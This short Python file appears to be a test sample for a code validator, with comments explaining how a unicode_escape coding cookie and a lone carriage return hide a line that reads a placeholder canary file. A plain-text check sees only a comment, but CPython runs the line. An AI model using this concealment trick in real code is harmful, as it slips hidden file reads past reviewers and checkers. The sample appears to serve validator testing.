# -*- coding: unicode_escape -*-
# class: coding_cookie
# technique: line 1 is a lone CR: CPython reads a blank line 1 and the unicode_escape cookie on line 2, the validator splits on LF only and sees one line starting with a carriage return
# goal: read
# Parsed from a str (the validator, the renderer) the hidden line below is a comment; run as a
# file by CPython (python3 snippet.py after a download) the cookie decodes it into code.
import numpy as np
import pandas as pd

summary = pd.Series(np.arange(5)).describe()
# \nstolen = open("{{CANARY_FILE}}").read()
df = pd.DataFrame({"stolen": [stolen]})  # NameError unless the hidden line ran
